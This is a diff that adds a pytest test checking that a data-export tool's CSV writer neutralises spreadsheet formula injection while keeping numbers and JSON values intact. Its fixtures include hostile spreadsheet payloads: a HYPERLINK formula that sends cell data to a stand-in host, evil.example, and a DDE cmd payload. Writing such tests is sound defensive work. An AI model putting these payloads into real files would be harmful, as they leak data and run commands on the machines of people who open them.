@@ -207,3 +207,36 @@ def test_a_scan_too_wide_for_its_first_buffer_is_retried_at_the_export_limit(wh,
     monkeypatch.setenv("PUBDATA_EXPORT_MEMORY_LIMIT", "64KB")  # the first buffer alone: it does run out
     with pytest.raises(WarehouseError, match="ran out of the 64KB"):
         write_parts(wh, staged, ["k"], "csv", 10**8, tmp_path / "small")
+
+
+def test_csv_neutralises_spreadsheet_formulas_in_text_only(wh, tmp_path):
+    """OWASP CSV injection: a text cell starting with =, +, -, @, a tab or a carriage return gets a
+    leading single quote; numbers (-5) and the JSON and Parquet parts keep the values as they are."""
+    staged = _stage_duckdb_sql(wh, r"""
+        SELECT * FROM (VALUES
+          (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', -5, -0.5),
+          (2, '+1+cmd|'' /C calc''!A0', 2, 1.5),
+          (3, '-2+3', 3, 2.5),
+          (4, '@SUM(A1:A9)', 4, 3.5),
+          (5, e'\tleading tab', 5, 4.5),
+          (6, e'\rleading cr', 6, 5.5),
+          (7, 'plain, with comma', 7, 6.5),
+          (8, 'a=b+c-d@e', 8, 7.5),
+          (9, '', 9, 8.5),
+          (10, NULL, -10, NULL)
+        ) t(id, label, n, x)
+    """)
+    (csv_part,) = write_parts(wh, staged, ["id"], "csv", 10**6, tmp_path / "csv")
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(csv_part.path.read_bytes().decode(), newline="")))
+    assert rows[0] == ["id", "label", "n", "x"]
+    assert [r[1] for r in rows[1:]] == [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)",
+        "'\tleading tab", "'\rleading cr", "plain, with comma", "a=b+c-d@e", "", ""]
+    assert [r[2] for r in rows[1:]] == ["-5", "2", "3", "4", "5", "6", "7", "8", "9", "-10"]
+    assert rows[1][3] == "-0.5"
+    (json_part,) = write_parts(wh, staged, ["id"], "json", 10**6, tmp_path / "json")
+    labels = [r["label"] for r in json.loads(json_part.path.read_text())]
+    assert labels[0].startswith("=HYPERLINK") and labels[2] == "-2+3"  # JSON carries the value itself
